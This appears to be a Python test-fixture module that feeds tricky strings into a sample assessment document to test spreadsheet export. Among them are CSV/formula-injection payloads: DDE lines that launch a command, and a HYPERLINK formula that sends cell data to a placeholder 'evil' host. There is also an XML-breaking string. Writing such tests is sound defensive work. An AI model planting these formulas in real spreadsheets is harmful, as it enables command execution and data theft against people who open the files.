"""Texts that a spreadsheet might take for something else, or that break a careless writer."""

from typing import Any

from .samples import Case, cookies, rulebook

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "=",
    "{=1+1}",
    "+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-1",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "007",
    "2026-11-22",
    "http://example.invalid/",
    "mailto:a@example.invalid",
]
ODD = [
    "[/] [bold]x[/bold]",
    "</t></is></c><c r='A1'><v>1</v></c>&amp;<![CDATA[",
    " spaces at both ends ",
    "line\nline\n\nline",
    "Преместване 漢字 עברית 👩‍👩‍👧 e\u0301",
    "\u202ereversed",
    "&P &N &F",
    "{0} {title} %s %(x)s",
]
ESCAPES = ["_x0041_ and _x000D_", "_x005F_", "_x005F_x0041_", "__x0041_x0042__"]
UNWRITABLE = ["\x00\x1b[31m\x0b", "\ud800", "\ufffe\uffff", "a\r\nb\rc"]


def case(texts: list[str]) -> Case:
    """Return the sample with a measure for each text, and the first text nearly everywhere."""
    document, verdict = cookies()
    first = texts[0]
    for name in ("reference", "title", "unit", "owner", "organisation"):
        document[name] = first
    document["decision"] |= {"reason": first, "by": first, "conditions": [first]}
    document["opinions"]["dpo"] |= {"advice": first, "by": first}
    document["risks"][0] |= {"title": first, "description": first}
    document["measures"] = [measure(at, text) for at, text in enumerate(texts)]
    verdict["findings"][0] |= {"title": first, "because": first}
    return document, verdict, rulebook()


def measure(number: int, title: str) -> dict[str, Any]:
    return {"id": f"m{number}", "title": title, "status": "planned", "owner": title}
